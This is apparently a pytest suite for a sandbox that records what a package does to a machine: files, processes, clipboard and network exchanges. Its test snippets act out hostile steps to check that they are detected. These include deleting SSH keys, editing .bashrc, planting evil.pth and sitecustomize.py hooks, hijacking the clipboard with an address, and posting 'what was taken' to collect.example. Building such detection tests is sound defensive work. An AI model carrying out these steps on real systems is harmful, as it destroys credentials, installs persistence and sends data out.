"""What a cell sees of a run: files, processes, exchanges, and phases that share a machine."""

import io
import tarfile

import pytest

from biopsy.model.run import Change, Status
from biopsy.sandbox import trace
from biopsy.sandbox.trace_event import Malformed

pytestmark = pytest.mark.sandbox


def test_files_created_changed_and_deleted_are_told_from_those_that_were_placed(attempt):
    seen = attempt("""
home = os.path.expanduser('~')
open('/tmp/new', 'w').write('new')
open(home + '/.bashrc', 'a').write('# added')
os.remove(home + '/.ssh/id_ed25519' if os.path.exists(home + '/.ssh/id_ed25519') else home + '/.ssh/id_rsa')
os.chmod(home + '/.gitconfig', 0o777)
os.utime(home + '/.npmrc')
os.symlink('/etc/shadow', '/tmp/link')
os.makedirs('/tmp/folder/empty')
open(home + '/projects/kept-open', 'w').write('unflushed'); os.kill(os.getpid(), 9)
""")
    told = {one.path.rpartition("/")[2]: one for one in seen.raw.changes}
    assert told["new"].change is Change.CREATED
    assert (told["new"].size, told["new"].head) == (3, b"new")
    assert told[".bashrc"].change is Change.CHANGED
    assert any(name.startswith("id_") and one.change is Change.DELETED for name, one in told.items())
    assert told[".gitconfig"].mode == 0o777
    assert ".npmrc" not in told, "a file whose time alone changed is the same file"
    assert told["link"].head == b"/etc/shadow"
    assert "empty" not in told
    assert seen.ran[0].status is Status.CRASHED
    assert seen.ran[0].reason == "signal: 9"


def test_what_the_image_holds_can_be_changed_and_that_is_seen(attempt):
    seen = attempt("""
import shutil
site = '/opt/venv/lib/python3.11/site-packages'
open(site + '/evil.pth', 'w').write('import os')
shutil.rmtree(site + '/wheel')
shutil.rmtree(site + '/_distutils_hack')
os.mkdir(site + '/_distutils_hack'); open(site + '/_distutils_hack/__init__.py', 'w').write('new')
path = site + '/pip/__init__.py'
data = open(path).read(); open(path, 'w').write(data)
open(site + '/setuptools/__init__.py', 'a').write('x')
""")
    told = {one.path.partition("site-packages/")[2]: one.change for one in seen.raw.changes}
    assert told["evil.pth"] is Change.CREATED
    assert told["wheel"] is Change.DELETED
    assert told["wheel/metadata.py"] is Change.DELETED, "what went with its folder"
    assert told["_distutils_hack/override.py"] is Change.DELETED, "what a new folder hides"
    assert told["_distutils_hack/__init__.py"] is Change.CHANGED
    assert told["setuptools/__init__.py"] is Change.CHANGED
    assert "pip/__init__.py" not in told, "written anew with the same content"


def test_a_site_customisation_of_a_package_is_loaded_as_by_pythons_own_builds(attempt):
    seen = attempt("""
open('/opt/venv/lib/python3.11/site-packages/sitecustomize.py', 'w').write('open("/tmp/loaded", "w")')
subprocess.run([sys.executable, '-c', 'pass'])
""")
    told = {one.path for one in seen.raw.changes}
    assert "/tmp/loaded" in told
    assert not any(path.startswith("/etc/python3") for path in told)


def test_names_that_lie_are_told_as_they_are(attempt):
    seen = attempt(r"""
os.mkdir('/tmp/odd')
for name in [b'new\nline', b'\xff\xfe', b'a @ b', b'quote"\'', b'-rf', '\u202egnp.exe'.encode(), b'x' * 255]:
    open(b'/tmp/odd/' + name, 'w').close()
os.chdir('/tmp/odd')
for _ in range(700):
    os.mkdir('d' * 20); os.chdir('d' * 20)
open('bottom', 'w').close()
""")
    told = [one.path for one in seen.raw.changes if one.path.startswith("/tmp/odd/")]
    assert len(told) == 7
    assert "/tmp/odd/new\nline" in told
    assert "/tmp/odd/\\xff\\xfe" in told
    assert seen.raw.changes_dropped == 1, "what lies too deep to look at is counted"


def test_processes_of_an_earlier_phase_go_on_in_the_next(attempt):
    seen = attempt(
        "if os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n    open('/tmp/later', 'w').close()\n    os._exit(0)",
        "time.sleep(4); print(os.path.exists('/tmp/later'))",
    )
    assert seen.text(1) == "True\n"


def test_what_vanishes_is_told_with_the_phase_in_which_it_did(attempt):
    home = "home = os.path.expanduser('~');"
    seen = attempt(
        f"{home} os.remove(home + '/Documents/notes.md')", f"{home} os.remove(home + '/Desktop/todo.txt')"
    )
    told = {one.path.rpartition("/")[2]: (one.change, one.phase) for one in seen.raw.changes}
    assert told["notes.md"] == (Change.DELETED, "p0")
    assert told["todo.txt"] == (Change.DELETED, "p1")


def test_the_clipboard_holds_an_account_and_takes_another(attempt):
    seen = attempt("""
copy = lambda *argv: subprocess.run(argv, capture_output=True, text=True, input='0xdead').stdout
print(copy('xclip', '-selection', 'clipboard', '-o'), copy('xsel', '-b', '-o') == copy('wl-paste'))
copy('xclip', '-selection', 'clipboard')
print(copy('xsel', '--clipboard', '--output'))
""")
    first, second = seen.text().split("\n")[:2]
    secret = next(one.secret for one in seen.raw.canaries if one.name == "clipboard")
    assert (first, second) == (f"{secret} True", "0xdead")


def test_every_process_and_exchange_is_recorded(attempt, tmp_path):
    seen = attempt("""
import urllib.request
subprocess.run(['/bin/echo', 'said by echo'])
urllib.request.urlopen('https://collect.example/up', b'what was taken', timeout=10).read()
""")
    (tmp_path / "trace.bin").write_bytes(seen.trace)
    events = list(trace.read(tmp_path / "trace.bin"))
    assert not [event for event in events if isinstance(event, Malformed)]
    assert any("said by echo" in str(event) for event in events)
    assert any(one.name == "collect.example" and b"what was taken" in one.body for one in seen.said)
    assert seen.ran[0].pid > 0


def test_a_trace_past_its_limit_is_cut_and_counted(attempt):
    seen = attempt("for _ in range(3000): open('/etc/passwd').close()", trace=20_000)
    assert len(seen.trace) <= 20_000
    assert seen.raw.trace_truncated > 1000


def test_what_people_want_to_look_at_is_kept_for_them(attempt, tmp_path):
    attempt("open('/tmp/written', 'w').write('by the package')")
    kept = tmp_path / "keep" / "laptop"
    assert {"trace.bin", "said.jsonl", "written.tar"} <= {one.name for one in kept.iterdir()}
    with tarfile.open(kept / "written.tar") as archive:
        file = archive.extractfile("tmp/written")
        assert isinstance(file, io.BufferedReader)
        assert file.read() == b"by the package"


def test_the_machine_looks_like_the_profiles(attempt):
    script = (
        "import getpass, platform; print(getpass.getuser(), os.getcwd(), socket.gethostname(), os.getuid())"
    )
    seen = attempt(script, profile="github-actions")
    user, project, host, uid = seen.text().split()
    assert (user, project, host, uid) == ("runner", seen.raw.project, seen.raw.hostname, str(seen.raw.uid))
